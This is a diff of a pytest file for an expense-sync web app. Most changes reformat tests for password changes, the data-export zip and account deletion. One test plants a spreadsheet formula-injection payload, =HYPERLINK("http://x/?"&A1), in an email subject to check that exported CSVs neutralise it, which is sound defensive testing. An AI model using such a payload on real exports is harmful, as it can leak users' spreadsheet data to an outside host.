@@ -6,8 +6,7 @@ import json
 import zipfile
 
 import pytest
-from helpers import csrf_token
-from test_review import PURCHASE, UNKNOWN_TYPE, raw, store, sync_row
+from helpers import PURCHASE, UNKNOWN_TYPE, csrf_token, raw, store, sync_row
 
 from expense_sync import crypto
 from expense_sync.extensions import db, get_redis
@@ -37,8 +36,14 @@ def post(client, path, **data):
 
 def second_browser(app, auth_password=PASSWORD):
     browser = app.test_client()
-    browser.post("/login", data={"email": "ana@example.cr", "password": auth_password,
-                                 "csrf_token": csrf_token(browser)})
+    browser.post(
+        "/login",
+        data={
+            "email": "ana@example.cr",
+            "password": auth_password,
+            "csrf_token": csrf_token(browser),
+        },
+    )
     assert browser.get("/accounts").status_code == 200
     return browser
 
@@ -53,15 +58,17 @@ def test_changing_the_password_signs_out_the_other_browsers(app, client, ana):
 
 
 def test_a_wrong_current_password_changes_nothing(app, client, ana):
-    html = post(client, "/me/password", current="no-es-esta", password=NEW,
-                confirm=NEW).get_data(as_text=True)
+    html = post(client, "/me/password", current="no-es-esta", password=NEW, confirm=NEW).get_data(
+        as_text=True
+    )
     assert "La contraseña actual no es correcta." in html
     second_browser(app)  # the old password still works
 
 
 def test_a_weak_new_password_is_refused(client, ana):
-    html = post(client, "/me/password", current=PASSWORD, password="123456789012",
-                confirm="123456789012").get_data(as_text=True)
+    html = post(
+        client, "/me/password", current=PASSWORD, password="123456789012", confirm="123456789012"
+    ).get_data(as_text=True)
     assert "fácil de adivinar" in html
 
 
@@ -86,8 +93,13 @@ def test_download_holds_everything_and_no_secret(app, client, ana):
     response = client.get("/me/data.zip")
     assert response.status_code == 200 and response.mimetype == "application/zip"
     archive = zipfile.ZipFile(io.BytesIO(response.data))
-    assert set(archive.namelist()) == {"datos.json", "gastos.csv", "cuentas.csv",
-                                      "sincronizaciones.csv", "correos_guardados.csv"}
+    assert set(archive.namelist()) == {
+        "datos.json",
+        "gastos.csv",
+        "cuentas.csv",
+        "sincronizaciones.csv",
+        "correos_guardados.csv",
+    }
     data = json.loads(archive.read("datos.json"))
     assert data["usuario"]["email"] == "ana@example.cr"
     assert [e["comercio"] for e in data["gastos"]] == ["AUTOMERCADO LOS YOSES"]
@@ -103,8 +115,9 @@ def test_deleting_the_account_erases_all_of_it(app, client, ana, auth):
     seeded(app, ana)
     auth.create("beto@example.cr")
     with app.app_context():
-        seeded_beto = sync_row(db.session.scalars(db.select(User.id).filter_by(
-            email="beto@example.cr")).one())
+        seeded_beto = sync_row(
+            db.session.scalars(db.select(User.id).filter_by(email="beto@example.cr")).one()
+        )
         store(seeded_beto, raw(PURCHASE))
         token = db.session.scalars(db.select(SyncSession.token).filter_by(user_id=ana)).one()
     with app.app_context():
@@ -116,12 +129,13 @@ def test_deleting_the_account_erases_all_of_it(app, client, ana, auth):
     assert client.get("/accounts").status_code == 302
     with app.app_context():
         for model in (User, EmailAccount, SyncSession, Expense, UnreadableEmail):
-            owners = {row.user_id if model is not User else row.id
-                      for row in db.session.scalars(db.select(model))}
+            owners = {
+                row.user_id if model is not User else row.id
+                for row in db.session.scalars(db.select(model))
+            }
             assert ana not in owners, model.__name__
         assert db.session.scalar(db.select(db.func.count()).select_from(Expense)) == 1  # Beto's
-        assert db.session.scalar(db.select(db.func.count()).select_from(
-            SyncSessionAccount)) == 1
+        assert db.session.scalar(db.select(db.func.count()).select_from(SyncSessionAccount)) == 1
         assert not get_redis().exists(session_key(token))
 
 
@@ -140,7 +154,8 @@ def test_an_account_with_a_sync_running_is_not_deleted(app, client, ana):
 def test_the_download_neutralises_formulas_from_mail(app, client, ana):
     hostile = raw(UNKNOWN_TYPE).replace(
         b"Subject: =?utf-8?q?Notificaci=C3=B3n_de_transacci=C3=B3n?= HOTEL PLAYA",
-        b'Subject: =HYPERLINK("http://x/?"&A1)')
+        b'Subject: =HYPERLINK("http://x/?"&A1)',
+    )
     with app.app_context():
         store(sync_row(ana), hostile)
     archive = zipfile.ZipFile(io.BytesIO(client.get("/me/data.zip").data))
